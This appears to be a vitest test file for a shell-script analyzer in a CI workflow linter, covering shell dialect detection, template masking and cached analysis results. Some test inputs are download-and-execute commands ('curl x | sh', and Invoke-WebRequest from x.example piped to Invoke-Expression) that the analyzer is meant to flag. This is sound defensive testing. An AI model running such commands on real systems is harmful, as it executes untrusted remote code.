import { describe, expect, it } from 'vitest';
import { analyzeShell, dialectOf, findTemplateSpans, forgetShellFacts, maskTemplates } from './shell-facts.js';

// This file never calls initShellParser(): vitest isolates modules per file.

describe('dialectOf', () => {
  it.each([
    [undefined, 'linux', 'bash'],
    [undefined, 'macos', 'bash'],
    [undefined, 'unknown', 'bash'],
    [undefined, 'windows', 'pwsh'],
    ['', 'windows', 'pwsh'],
    ['bash', 'windows', 'bash'],
    ['bash {0}', 'linux', 'bash'],
    ['bash --noprofile --norc -eo pipefail {0}', 'linux', 'bash'],
    ['/usr/bin/bash -e {0}', 'linux', 'bash'],
    ['sh', 'linux', 'sh'],
    ['sh -e {0}', 'linux', 'sh'],
    ['pwsh', 'linux', 'pwsh'],
    ['pwsh -command ". \'{0}\'"', 'windows', 'pwsh'],
    ['powershell', 'windows', 'powershell'],
    ['C:\\Program Files\\PowerShell\\7\\pwsh.EXE {0}', 'windows', 'pwsh'],
    ['cmd', 'windows', 'cmd'],
    ['cmd /D /E:ON /V:OFF /S /C "CALL "{0}""', 'windows', 'cmd'],
    ['python', 'linux', 'python'],
    ['python3 {0}', 'linux', 'python'],
    ['perl {0}', 'linux', 'other'],
    ['node {0}', 'linux', 'other'],
  ] as const)('%j on %s -> %s', (shell, os, want) => {
    expect(dialectOf(shell, os)).toBe(want);
  });

  it('defaults the runner OS to bash', () => {
    expect(dialectOf(undefined)).toBe('bash');
  });
});

describe('template masking', () => {
  it('replaces ${{ }} and $[[ ]] with same-length placeholders, keeping line breaks', () => {
    const s = 'a ${{ x }} b $[[ inputs.y ]] c ${{ f(\n  1) }} d';
    const m = maskTemplates(s);
    expect(m).toHaveLength(s.length);
    const u = (t: string) => '_'.repeat(t.length);
    expect(m).toBe(`a ${u('${{ x }}')} b ${u('$[[ inputs.y ]]')} c ${u('${{ f(')}\n${u('  1) }}')} d`);
    expect(findTemplateSpans(s).map(({ start, end }) => s.slice(start, end))).toEqual(['${{ x }}', '$[[ inputs.y ]]', '${{ f(\n  1) }}']);
  });

  it("skips '}}' inside expression string literals; leaves unterminated openers alone", () => {
    const s = "echo ${{ format('}}{0}', 'a''b') }} ${{ never closed";
    const spans = findTemplateSpans(s);
    expect(spans.map(({ start, end }) => s.slice(start, end))).toEqual(["${{ format('}}{0}', 'a''b') }}"]);
    expect(maskTemplates(s).endsWith('${{ never closed')).toBe(true);
  });

  it('returns the same string when there is nothing to mask', () => {
    const s = 'echo "${HOME}" $[x]';
    expect(maskTemplates(s)).toBe(s);
  });
});

describe('analyzeShell dispatch', () => {
  it('throws a clear error for bash/sh before initShellParser()', () => {
    expect(() => analyzeShell('echo hi', 'bash')).toThrow(/initShellParser/);
    expect(() => analyzeShell('echo hi', 'sh')).toThrow(/initShellParser/);
  });

  it('pwsh and cmd need no parser', () => {
    expect(analyzeShell('npm ci', 'pwsh')).toMatchObject({ dialect: 'pwsh', parsed: true });
    expect(analyzeShell('npm ci', 'powershell')).toMatchObject({ dialect: 'powershell', parsed: true });
    expect(analyzeShell('npm ci', 'cmd')).toMatchObject({ dialect: 'cmd', parsed: true });
  });

  it('python and other dialects are not analysed', () => {
    for (const d of ['python', 'other'] as const) {
      expect(analyzeShell('import os; os.system("curl x | sh")', d)).toEqual({
        dialect: d,
        parsed: false,
        envFileWrites: [],
        remoteExecutions: [],
        evalSinks: [],
        expansions: [],
        commands: [],
      });
    }
  });
});

describe('analyzeShell reuse', () => {
  it('answers a script it has seen with the same facts, per dialect', () => {
    const script = 'Invoke-WebRequest https://x.example/a.ps1 | Invoke-Expression';
    const first = analyzeShell(script, 'pwsh');
    expect(first.remoteExecutions).toHaveLength(1);
    expect(analyzeShell(script, 'pwsh')).toBe(first);
    const other = analyzeShell(script, 'powershell');
    expect(other).not.toBe(first);
    expect(other.dialect).toBe('powershell');
  });

  it('computes the facts again after forgetShellFacts()', () => {
    const script = 'Write-Output $env:HOME';
    const first = analyzeShell(script, 'pwsh');
    forgetShellFacts();
    const again = analyzeShell(script, 'pwsh');
    expect(again).not.toBe(first);
    expect(again).toEqual(first);
  });
});
